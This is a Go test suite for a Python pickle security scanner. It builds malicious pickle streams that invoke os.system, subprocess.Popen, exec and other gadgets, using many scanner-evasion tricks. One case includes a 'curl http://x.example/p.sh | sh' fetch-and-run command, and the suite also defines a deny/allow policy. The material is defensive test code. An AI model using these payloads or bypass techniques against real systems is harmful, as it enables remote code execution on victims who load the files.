package pickle

import (
	"context"
	"encoding/binary"
	"strings"
	"testing"
)

func worst(fs []Finding) string {
	rank := map[string]int{"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
	w := "none"
	for _, f := range fs {
		if w == "none" || rank[f.Severity] > rank[w] {
			w = f.Severity
		}
	}
	return w
}

func analyze(b []byte) *Result {
	return Analyze(context.Background(), b, 0, NewPolicy(nil), Limits{})
}

// joblibStream builds a joblib-style stream: a NumpyArrayWrapper followed by
// raw array bytes (or a nested pickle for object arrays), then STOP.
func joblibStream(dtype string, shape int, payload []byte, alignment bool) []byte {
	p := newPB(4)
	p.ustr("joblib.numpy_pickle").ustr("NumpyArrayWrapper").stackGlobal().op(')').op(0x81) // NEWOBJ
	p.op('}', '(')
	p.ustr("subclass").ustr("numpy").ustr("ndarray").stackGlobal()
	p.ustr("shape").op('K', byte(shape)).tuple1()
	p.ustr("order").ustr("C")
	p.ustr("dtype").ustr("numpy").ustr("dtype").stackGlobal().ustr(dtype).op(0x89, 0x88, 0x87).reduce()
	p.op('(', 'K', 3).ustr("<").op('N', 'N', 'N', 'J', 0xff, 0xff, 0xff, 0xff, 'J', 0xff, 0xff, 0xff, 0xff, 'K', 0, 't', 'b')
	p.ustr("allow_mmap").op(0x88)
	if alignment {
		p.ustr("numpy_array_alignment_bytes").op('K', 16)
	}
	p.op('u', 'b') // SETITEMS, BUILD
	if alignment {
		p.op(3, 0, 0, 0) // padding length 3 then 3 bytes
	}
	p.op(payload...)
	return p.stop()
}

func TestBypassClasses(t *testing.T) {
	raw := func(s string) []byte { return []byte(s) }
	cases := []struct {
		name    string
		data    []byte
		want    string // worst severity
		detail  string // substring expected in some finding
		wantErr bool
	}{
		{"proto0 GLOBAL+REDUCE", raw("cos\nsystem\n(S'id'\ntR."), "critical", "os.system", false},
		{"STACK_GLOBAL via BINPUT/BINGET indirection", newPB(4).ustr("os").binput(5).op('0').ustr("system").binput(6).op('0').binget(5).binget(6).stackGlobal().call1("id").stop(), "critical", "os.system", false},
		{"STACK_GLOBAL via MEMOIZE after decoy strings", newPB(4).ustr("torch._utils").memoize().ustr("_rebuild_tensor").memoize().ustr("subprocess").memoize().ustr("getoutput").memoize().op('0', '0', '0', '0').binget(2).binget(3).stackGlobal().call1("id").stop(), "critical", "subprocess.getoutput", false},
		{"BINUNICODE8 operands", newPB(4).ustr8("builtins").ustr8("exec").stackGlobal().call1("print(1)").stop(), "critical", "builtins.exec", false},
		{"raw-unicode-escape operands", newPB(0).unicode0(`o\u0073`).unicode0(`sy\u0073tem`).stackGlobal().call1("id").stop(), "critical", "os.system", false},
		{"py2 module alias __builtin__", raw("c__builtin__\neval\n(S'1'\ntR."), "critical", "__builtin__.eval", false},
		{"C accelerator alias _operator.attrgetter", newPB(2).global("_operator", "attrgetter").call1("system").stop(), "critical", "_operator.attrgetter", false},
		{"submodule of a denied module (asyncio.unix_events)", newPB(4).ustr("asyncio.unix_events").ustr("_UnixSubprocessTransport._start").stackGlobal().stop(), "critical", "asyncio.unix_events", false},
		{"qualified name through dunders on an allowlisted module", newPB(4).ustr("collections").ustr("OrderedDict.__init__.__globals__").stackGlobal().stop(), "critical", "__globals__", false},
		{"builtins attribute chain", newPB(4).ustr("builtins").ustr("object.__subclasses__").stackGlobal().stop(), "critical", "object.__subclasses__", false},
		{"INST opcode", raw("(S'id'\nios\nsystem\n."), "critical", "os.system (INST)", false},
		{"OBJ opcode", raw("(cposix\nsystem\nS'id'\no."), "critical", "posix.system", false},
		{"NEWOBJ", newPB(2).global("subprocess", "Popen").ustr("id").tuple1().op(0x81).stop(), "critical", "subprocess.Popen", false},
		{"NEWOBJ_EX", newPB(4).ustr("subprocess").ustr("Popen").stackGlobal().ustr("id").tuple1().op('}').op(0x92).stop(), "critical", "subprocess.Popen", false},
		{"EXT1 extension registry", newPB(2).op(0x82, 42).call1("id").stop(), "high", "EXT1 code 42", false},
		{"EXT4 extension registry", newPB(2).op(0x84, 1, 2, 3, 4).op(')').reduce().stop(), "high", "EXT4", false},
		{"second pickle in the stream is malicious", append(newPB(2).global("collections", "OrderedDict").op(')').reduce().stop(), newPB(2).global("os", "system").call1("id").stop()...), "critical", "os.system", false},
		{"memo shared across pickles", append(newPB(4).ustr("os").binput(1).ustr("system").binput(2).op('0', '0', 'N').stop(), newPB(4).binget(1).binget(2).stackGlobal().call1("id").stop()...), "critical", "os.system", false},
		{"payload then invalid opcode", append(newPB(2).global("os", "system").call1("id").bytes(), 0xff, 0xfe), "critical", "os.system", true},
		{"truncated after payload", newPB(2).global("os", "system").call1("id").bytes(), "critical", "os.system", true},
		{"name computed at load time", newPB(4).global("builtins", "str").call1("os").ustr("system").stackGlobal().stop(), "critical", "unknown.system", false},
		{"BUILD monkey-patches an allowlisted global", newPB(2).global("torch._utils", "_rebuild_tensor").op('}').ustr("k").ustr("v").op('s', 'b').stop(), "critical", "pickle.build.global", false},
		{"SETITEM into a global (sys.modules override)", newPB(2).global("builtins", "dict").ustr("os").ustr("x").op('s').stop(), "critical", "pickle.setitem.global", false},
		{"nested torch.load through functools.partial", newPB(4).ustr("functools").ustr("partial").stackGlobal().ustr("torch.serialization").ustr("load").stackGlobal().tuple1().reduce().op(')').reduce().stop(), "critical", "torch.serialization.load", false},
		{"nested pickle.loads via _codecs", newPB(2).global("pickle", "loads").global("_codecs", "encode").ustr("x").ustr("latin1").op(0x86).reduce().tuple1().reduce().stop(), "critical", "pickle.loads", false},
		{"pkgutil.resolve_name universal gadget", newPB(4).ustr("pkgutil").ustr("resolve_name").stackGlobal().call1("os:system").stop(), "critical", "pkgutil.resolve_name", false},
		{"importlib.import_module gadget", newPB(4).ustr("importlib").ustr("import_module").stackGlobal().call1("os").stop(), "critical", "importlib.import_module", false},
		{"REDUCE then BUILD (fickling GHSA-mhc9-48gj-9gp3)", newPB(4).ustr("smtplib").ustr("SMTP").stackGlobal().call1("evil.example").op('}').op('b').stop(), "critical", "smtplib.SMTP", false},
		{"numpy.testing runstring", newPB(2).global("numpy.testing._private.utils", "runstring").stop(), "critical", "numpy.testing", false},
		{"types.CodeType (cloudpickle code injection)", newPB(2).global("types", "CodeType").stop(), "critical", "types.CodeType", false},
		{"unknown third-party class", newPB(2).global("sklearn.linear_model._base", "LinearRegression").op(')').op(0x81).stop(), "medium", "not on the allowlist", false},
		{"calling a computed callable", newPB(2).global("collections", "OrderedDict").op(')').reduce().op(')').reduce().stop(), "high", "pickle.call.indirect", false},
		{"unknown gadget called with a shell command", newPB(4).ustr("somepkg.tools").ustr("run_cmd").stackGlobal().call1("curl http://x.example/p.sh | sh").stop(), "critical", "pickle.call.payload", false},
		{"unknown gadget called with Python source", newPB(2).global("somepkg", "Runner").call1("import os; os.system('id')").stop(), "critical", "pickle.call.payload", false},
		{"unknown class with ordinary strings", newPB(2).global("somepkg", "Tokenizer").call1("cat and dog").stop(), "medium", "not on the allowlist", false},
		{"memo read before write", newPB(4).binget(9).op('.').bytes(), "medium", "pickle.memo-missing", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := analyze(c.data)
			if got := worst(r.Findings); got != c.want {
				t.Errorf("worst severity %s, want %s; findings %+v err %v", got, c.want, r.Findings, r.Err)
			}
			if !contains(r.Findings, c.detail) {
				t.Errorf("no finding mentions %q: %+v", c.detail, r.Findings)
			}
			if (r.Err != nil) != c.wantErr {
				t.Errorf("err = %v, want error %v", r.Err, c.wantErr)
			}
		})
	}
}

func TestBenignStreams(t *testing.T) {
	torch := newPB(2).global("collections", "OrderedDict").op(')').reduce().op('(').
		ustr("weight").global("torch._utils", "_rebuild_tensor_v2").op('(').op('(').ustr("storage").global("torch", "FloatStorage").ustr("0").ustr("cpu").op('K', 4, 't', 'Q').
		op('K', 0).op('K', 4).tuple1().op('K', 1).tuple1().op(0x89).global("collections", "OrderedDict").op(')').reduce().op('t').reduce().op('u').stop()
	cases := map[string][]byte{
		"torch state dict":            torch,
		"plain values proto0":         []byte("(dp0\nS'a'\np1\nI1\nsS'b'\np2\nF1.5\ns."),
		"trailing non-pickle bytes":   append(newPB(2).op('N').stop(), "\x00\x01raw tensor bytes"...),
		"joblib raw array":            joblibStream("f8", 2, []byte("\x80\x02cos\nsystem\n....."[:16]), false),
		"joblib raw array, alignment": joblibStream("i4", 3, make([]byte, 12), true),
		// What CPython 3 writes for range(3) with protocols 0-2 (REVERSE_NAME_MAPPING).
		"range as __builtin__.xrange": newPB(2).global("__builtin__", "xrange").op('K', 0, 'K', 3, 'K', 1, 0x87).reduce().stop(),
	}
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			r := analyze(data)
			if r.Err != nil {
				t.Fatalf("error: %v", r.Err)
			}
			for _, f := range r.Findings {
				if f.Severity != "info" {
					t.Errorf("unexpected finding %+v", f)
				}
			}
		})
	}
}

func TestJoblibObjectArrayNestedPickle(t *testing.T) {
	nested := newPB(2).global("os", "system").call1("id").stop()
	r := analyze(joblibStream("O8", 1, nested, false))
	if worst(r.Findings) != "critical" || !contains(r.Findings, "os.system") {
		t.Fatalf("nested object-array pickle not analysed: %+v %v", r.Findings, r.Err)
	}
}

func TestLegacyTorchStopsAtStorageData(t *testing.T) {
	magic := newPB(2).op(0x8a, 10).op([]byte(legacyTorchMagic)...).stop()
	p := append([]byte{}, magic...)
	p = append(p, newPB(2).op('M', 0xe9, 0x03).stop()...) // protocol version
	p = append(p, newPB(2).op('}').stop()...)             // sys_info
	p = append(p, newPB(2).global("collections", "OrderedDict").op(')').reduce().stop()...)
	p = append(p, newPB(2).op(']').stop()...)               // storage keys
	p = append(p, 0x80, 0x02, 0, 0, 0, 0, 0, 0, 0xde, 0xad) // raw storage
	r := analyze(p)
	if r.Err != nil || r.Pickles != 5 || worst(r.Findings) != "info" {
		t.Fatalf("legacy checkpoint: pickles %d err %v findings %+v", r.Pickles, r.Err, r.Findings)
	}
}

func TestLimits(t *testing.T) {
	ctx := context.Background()
	memoBomb := newPB(4)
	for i := 0; i < 2000; i++ {
		memoBomb.op('N').memoize()
	}
	marks := newPB(2)
	for i := 0; i < 5000; i++ {
		marks.op('(')
	}
	huge := newPB(4).op(0x8d)
	huge.b = binary.LittleEndian.AppendUint64(huge.b, 1<<63)
	cases := map[string]struct {
		data []byte
		lim  Limits
		want string
	}{
		"memo entries":          {memoBomb.stop(), Limits{MaxMemo: 1000}, "memo exceeds"},
		"nested marks":          {marks.stop(), Limits{MaxDepth: 1000}, "nested MARKs"},
		"opcode count":          {memoBomb.stop(), Limits{MaxOps: 100}, "opcodes"},
		"gigantic string":       {huge.stop(), Limits{}, "string of"},
		"line without newline":  {[]byte("cos\nsys"), Limits{}, "truncated"},
		"unsupported protocol":  {[]byte{0x80, 6, '.'}, Limits{}, "protocol 6"},
		"negative LONG4 length": {[]byte{0x80, 2, 0x8b, 0xff, 0xff, 0xff, 0xff, '.'}, Limits{}, "negative"},
		"empty":                 {nil, Limits{}, "empty"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			r := Analyze(ctx, c.data, 0, NewPolicy(nil), c.lim)
			if r.Err == nil || !strings.Contains(r.Err.Error(), c.want) {
				t.Fatalf("err = %v, want one mentioning %q", r.Err, c.want)
			}
		})
	}
}

func TestPolicyAllowlistExtension(t *testing.T) {
	p := NewPolicy([]string{"sklearn.*", "mypkg.Model"})
	for _, c := range []struct {
		mod, name string
		want      Class
	}{
		{"sklearn.linear_model._base", "LinearRegression", Safe},
		{"mypkg", "Model", Safe},
		{"mypkg", "Other", Unknown},
		{"sklearn.x", "Y.__init__.__globals__", Dangerous},
		{"os", "system", Dangerous},
		{"torch._utils", "_rebuild_tensor_v2", Safe},
		{"functools", "partial", Risky},
		{"builtins", "len", Unknown},
		{"builtins", "getattr", Dangerous},
		{"__builtin__", "set", Safe},
		{"__builtin__", "getattr", Dangerous},
		{"copy_reg", "_reconstructor", Safe},
		{"__main__", "Net", Unknown},
		{"somepkg.util", "Runner.runcode", Risky},
		{"yaml", "unsafe_load", Dangerous},
		{"json", "loads", Risky},
		{"pathlib", "PosixPath.write_text", Dangerous},
	} {
		if got := p.Classify(c.mod, c.name); got != c.want {
			t.Errorf("%s.%s = %s, want %s", c.mod, c.name, got, c.want)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("cos\nsystem\n(S'id'\ntR."))
	f.Add(newPB(4).ustr("os").binput(5).op('0').ustr("system").binput(6).op('0').binget(5).binget(6).stackGlobal().call1("id").stop())
	f.Add(joblibStream("f8", 2, make([]byte, 16), true))
	f.Add([]byte("(dp0\nS'a'\np1\nI1\nsS'b'\np2\nF1.5\ns."))
	f.Add([]byte{0x80, 5, 0x95, 1, 0, 0, 0, 0, 0, 0, 0, 0x97, 0x98, '.'})
	f.Fuzz(func(t *testing.T, data []byte) {
		r := Analyze(context.Background(), data, 0, NewPolicy(nil), Limits{MaxOps: 100000})
		if r.Err == nil && r.Pickles == 0 && len(data) > 0 {
			t.Fatalf("no pickle and no error")
		}
	})
}
